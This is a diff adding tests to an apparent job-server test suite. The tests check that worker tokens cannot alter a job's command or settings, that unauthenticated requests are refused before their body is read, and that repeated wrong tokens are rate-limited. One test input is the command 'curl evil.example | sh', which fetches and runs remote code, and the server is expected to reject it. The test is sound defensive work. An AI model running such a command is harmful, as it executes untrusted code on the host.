@@ -186,6 +186,18 @@ async def test_a_token_that_is_used_from_another_address_is_told(live: Live) -> 
     assert len(told) == 1 + access.TOKEN_ADDRESSES_MAX
 
 
+async def test_who_works_does_not_say_what_is_run(live: Live) -> None:
+    root = await admin_of(live)
+    worker = await root.token_for("w", "work")
+    job = (await root.ok("CreateJob", name="a", cmd="true"))["jobID"]
+    assert (await worker.http("UpdateJob", jobID=job, data={"n": 1}, jobPriority=750)).code == 200
+    for option in ({"cmd": "curl evil.example | sh"}, {"retries": 9}, {"tags": "x"}):
+        refused = (await worker.http("UpdateJob", jobID=job, **option)).json
+        assert (refused["code"], refused["reason"]) == (403, "Forbidden")
+        assert refused["detail"].startswith(f"{next(iter(option))}: ")
+    assert (await root.http("UpdateJob", jobID=job, cmd="false")).code == 200
+
+
 async def test_revoking_ends_waits_at_once(live: Live) -> None:
     root = await admin_of(live)
     worker = await root.token_for("w", "read,work")
@@ -270,10 +282,21 @@ async def test_a_large_body_of_nobody_is_not_read(live: Live) -> None:
             async with await Talk.open(live.port) as talk:
                 talk.send(f"POST /{kind} HTTP/1.1\r\nHost: localhost\r\n{head}{body}")
                 assert (await talk.reply()).code == code, kind
+    for length in (f"Content-Length: {len(body)}", "Transfer-Encoding: chunked"):
+        async with await Talk.open(live.port) as talk:
+            talk.send(f"CreateJob\r\n{length}\r\n\r\n")
+            assert b"403 Forbidden" in await talk.ended(), "its body is not even waited for"
     async with await Talk.open(live.port) as talk:
-        for _ in range(WRONG_A_SECOND_MAX + 1):
-            talk.send(f"Ping\r\nAuthorization: {WRONG}\r\nContent-Length: {len(body)}\r\n\r\n{body}")
-        assert b"429 Too many wrong tokens" in await talk.ended()
+        talk.send(request("Authenticate", token=root.token))
+        talk.send(f"Ping\r\nContent-Length: {len(body)}\r\n\r\n{body}")
+        assert [(await talk.reply()).code for _ in range(2)] == [200, 200], "who it is was said before"
+    ends = []
+    for _ in range(WRONG_A_SECOND_MAX + 1):
+        async with await Talk.open(live.port) as talk:
+            talk.send(f"Ping\r\nAuthorization: {WRONG}\r\nContent-Length: {len(body)}\r\n\r\n")
+            ends.append((await talk.ended()).partition(b"\r\n")[0])
+    assert ends[0] == b"403 Forbidden"
+    assert ends[-1] == b"429 Too many wrong tokens"
 
 
 async def test_by_is_the_name_of_the_token(live: Live) -> None:
